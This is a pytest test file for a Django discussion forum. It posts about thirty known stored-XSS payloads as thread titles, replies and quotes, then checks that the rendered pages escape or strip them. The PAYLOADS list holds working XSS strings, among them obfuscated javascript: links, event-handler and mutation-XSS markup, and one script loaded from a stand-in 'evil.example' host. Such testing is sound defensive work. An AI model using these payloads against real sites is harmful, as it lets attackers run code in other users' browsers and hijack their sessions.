"""Stored XSS: known payloads posted through the real forms as a thread's title and text, a reply and a quote of it.
The thread page and the listing carry no executable markup of the member's (no script, no event handler, no
javascript:/vbscript:/data: address, no style, frame or object), every link in members' text is
`rel="nofollow ugc noopener"`, and the title is escaped wherever it is shown."""

import re

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from django.test import override_settings

from dialogue.models import Post, Thread

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=alert(1)//",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](java\tscript:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[click](https://example.org/" onmouseover="alert(1))',
    "![image](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://example.org/" onmouseover="alert(1)>',
    'www.example.org/?q="><script>alert(1)</script>',
    "[ref]\n\n[ref]: javascript:alert(1)",
]
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "style", "svg", "math", "form", "img", "body", "details"}
DANGEROUS_SCHEMES = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
ADDRESS_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href")


@pytest.fixture(autouse=True)
def site(home_page):
    return home_page


def unobfuscated(value):
    """An address as a browser reads its scheme: without whitespace and control characters."""
    return re.sub(r"[\s\x00-\x1f]", "", value or "")


def assert_nothing_executable(html, where):
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on"), f"{where}: event handler {name} on <{element.name}>"
            if name.lower() in ADDRESS_ATTRIBUTES:
                assert not DANGEROUS_SCHEMES.match(unobfuscated(value)), f"{where}: {name}={value!r}"
        if element.name == "script":
            # The site's own scripts only: served from /static/, nothing inline.
            assert element.get("src", "").startswith("/static/") and not element.string, f"{where}: {element}"
    for member_text in soup.select(".post__text, .post__quote, .card__title, h1"):
        for element in member_text.find_all(True):
            assert element.name not in DANGEROUS_TAGS, f"{where}: <{element.name}> in member text"
            assert "style" not in element.attrs, f"{where}: style attribute in member text"
    for link in soup.select(".post__text a"):
        assert link.get("rel") == ["nofollow", "ugc", "noopener"], f"{where}: {link}"
    return soup


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_as_title_text_reply_and_quote_is_never_executable(client, people, payload):
    with override_settings(RATE_LIMITS={**settings.RATE_LIMITS, "dialogue_post": {"user": "1000/m"}}):
        client.force_login(people.trusted)  # past premoderation: published at once
        response = client.post(
            "/dialog/nou/", {"title": payload, "text": payload, "kind": "discutie", "visibility": "public"}
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        thread = Thread.objects.get(author=people.trusted, title=" ".join(payload.split()))
        address = f"/dialog/{thread.pk}/"
        assert client.post(f"{address}raspunde/", {"text": payload}).status_code == 302
        quoted = Post.objects.get(thread=thread)
        response = client.post(f"{address}raspunde/", {"text": "Citez mai sus.", "quote": quoted.pk})
        assert response.status_code == 302
    client.force_login(people.helper)  # another member: report links and "Citează" too
    member_page = client.get(address).content.decode()
    soup = assert_nothing_executable(member_page, "thread page (member)")
    assert soup.h1.get_text() == thread.title  # the title shown as text, escaped
    assert soup.select_one(".post__quote") is not None
    client.logout()
    assert_nothing_executable(client.get(address).content.decode(), "thread page (anonymous)")
    listing = assert_nothing_executable(client.get("/dialog/").content.decode(), "listing")
    assert thread.title in [title.get_text() for title in listing.select(".card__title")]


def test_links_in_members_text_are_kept_safe_and_marked_as_user_content(client, people):
    text = "Vedeți [ghidul](https://example.org/ghid) și https://primaria.example.ro/anunturi sau <ana@example.org>."
    client.force_login(people.trusted)
    client.post("/dialog/nou/", {"title": "Linkuri utile", "text": text, "kind": "discutie", "visibility": "public"})
    thread = Thread.objects.get(title="Linkuri utile")
    soup = assert_nothing_executable(client.get(f"/dialog/{thread.pk}/").content.decode(), "links")
    links = soup.select(".post__text a")
    assert [link["href"] for link in links] == [
        "https://example.org/ghid",
        "https://primaria.example.ro/anunturi",
        "mailto:ana@example.org",
    ]
    assert all(link["rel"] == ["nofollow", "ugc", "noopener"] for link in links)


def test_the_checks_themselves_catch_executable_markup():
    """The assertions above would fail on the markup they look for (they are not vacuous)."""
    for html in (
        '<div class="post__text"><p onclick="alert(1)">x</p></div>',
        '<div class="post__text"><a href="javascript:alert(1)" rel="nofollow ugc noopener">x</a></div>',
        '<div class="post__text"><a href="https://example.org">x</a></div>',
        "<script>alert(1)</script>",
        '<div class="post__text"><iframe></iframe></div>',
    ):
        with pytest.raises(AssertionError):
            assert_nothing_executable(html, "self-check")
